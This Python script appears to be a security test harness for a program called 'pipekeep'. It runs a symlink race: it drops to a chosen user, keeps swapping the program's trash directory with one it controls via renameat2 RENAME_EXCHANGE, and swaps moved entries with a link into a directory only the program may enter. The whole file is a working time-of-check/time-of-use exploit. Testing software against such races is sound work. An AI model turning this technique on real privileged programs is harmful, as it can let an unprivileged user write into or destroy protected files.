"""
Attacks a training_data that this user owns: exchanges the trash with one of its own, and the entries that are moved there
with a link to a directory that only the program may enter. argv: training_data, the link's target, how many seconds,
the user to be.
Prints a line when it begins, and at its end how many exchanges it made; argv[5], if given: after how many it ends.
"""

import ctypes
import os
import random
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)


made = 0


def exchange(one: str, other: str) -> bool:
    global made
    done = libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE) == 0
    made += done
    return done


root, target, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3])
trash, own = f"{root}/.pipekeep-trash", f"{root}/.own-trash"
os.setgroups([])
os.setgid(int(sys.argv[4]))
os.setuid(int(sys.argv[4]))
os.mkdir(own, 0o777)
os.chmod(own, 0o777)
os.symlink(target, f"{root}/.link")
print("begun", flush=True)
end = time.monotonic() + seconds
most = int(sys.argv[5]) if len(sys.argv) > 5 else 1 << 60
while time.monotonic() < end and made < most:
    exchange(trash, own)
    # Now and then it stays exchanged for long: the program may look once and trust what it saw.
    for _ in range(random.choice((1, 1, 1, 300))):
        for folder in (trash, own):
            try:
                entries = os.listdir(folder)
            except OSError:
                continue
            for entry in entries:
                exchange(f"{folder}/{entry}", f"{root}/.link")
print(made, flush=True)
